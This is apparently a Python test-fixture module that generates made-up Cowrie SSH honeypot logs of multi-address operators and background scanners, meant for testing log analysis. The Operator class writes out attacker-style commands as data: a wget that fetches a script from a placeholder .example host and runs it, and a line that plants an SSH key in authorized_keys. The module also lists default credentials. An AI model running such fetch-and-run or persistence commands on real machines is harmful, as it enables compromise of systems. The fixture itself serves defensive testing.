"""Cowrie logs made up for tests: operators who act from many addresses, and everybody else. Addresses are those that
are reserved for documentation and for tests of devices."""

import hashlib
import json
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

START = datetime(2025, 3, 9, 0, tzinfo=UTC)
HABITS = (("root", "123456"), ("admin", "admin"), ("root", "root"), ("pi", "raspberry"), ("user", "1234"))
COMMON_COMMANDS = ("uname -a", "cat /proc/cpuinfo", "free -m", "w", "ls -la /tmp")


@dataclass(frozen=True, slots=True)
class Operator:
    """Who acts from several addresses with tools of their own."""

    name: str
    network: str = "198.18.7"
    addresses: Sequence[int] = tuple(range(1, 9))
    commands: Sequence[str] = field(default=())

    @property
    def file(self) -> str:
        return hashlib.sha256(self.name.encode()).hexdigest()

    def typed(self) -> Sequence[str]:
        name = self.name
        return self.commands or (
            f"cd /var/run && wget http://{name}.example/{name}.sh -O .{name}",
            f"chmod 777 .{name}; sh .{name} {name}-arm7",
            f'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{self.file}{self.file} {name}" >> ~/.ssh/authorized_keys',
        )

    def lines(self, start: datetime, *, sessions: int = 3, seed: int = 1) -> Iterator[bytes]:
        chance = random.Random(f"{self.name}{seed}")
        for number in self.addresses:
            for _ in range(sessions):
                at = start + timedelta(seconds=chance.randrange(3000))
                yield from session(
                    f"{self.network}.{number}",
                    at,
                    logins=(("root", f"{self.name}!2025"), ("root", "123456")),
                    commands=self.typed(),
                    download=(f"http://{self.name}.example/{self.name}.sh", self.file),
                    client="SSH-2.0-Go",
                )


def background(start: datetime, *, sources: int = 60, seed: int = 1) -> Iterator[bytes]:
    """Sources that share habits, and nothing else."""
    chance = random.Random(f"background{seed}")
    for number in range(sources):
        address = f"198.19.{seed}.{number + 1}"
        at = start + timedelta(seconds=chance.randrange(3500))
        logins = [chance.choice(HABITS) for _ in range(chance.randrange(1, 4))]
        commands = chance.sample(COMMON_COMMANDS, chance.randrange(0, 3))
        yield from session(address, at, logins=logins, commands=commands, client="SSH-2.0-libssh2_1.9.0")


def session(
    address: str,
    at: datetime,
    *,
    logins: Sequence[tuple[str, str]] = (),
    commands: Sequence[str] = (),
    download: tuple[str, str] | None = None,
    client: str | None = None,
    sensor: str = "east",
) -> Iterator[bytes]:
    """The lines of one session, a second apart."""
    name = hashlib.sha256(f"{address}{at}{sensor}".encode()).hexdigest()[:12]
    step = 0

    def line(event: str, **fields: object) -> bytes:
        nonlocal step
        step += 1
        moment = (at + timedelta(seconds=step)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        common = {"eventid": f"cowrie.{event}", "timestamp": moment, "session": name, "src_ip": address}
        return json.dumps(common | {"sensor": sensor} | fields).encode()

    yield line(
        "session.connect", src_port=40000, dst_ip="198.51.100.20", dst_port=22, protocol="ssh", message="New connection"
    )
    if client:
        yield line("client.version", version=client)
    for username, password in logins:
        yield line("login.failed", username=username, password=password)
    if commands:
        yield line("login.success", username="root", password="admin123")
    for command in commands:
        yield line("command.input", input=command)
    if download:
        url, digest = download
        yield line("session.file_download", url=url, shasum=digest, outfile=f"var/lib/{digest}")
    yield line("session.closed", duration="9")
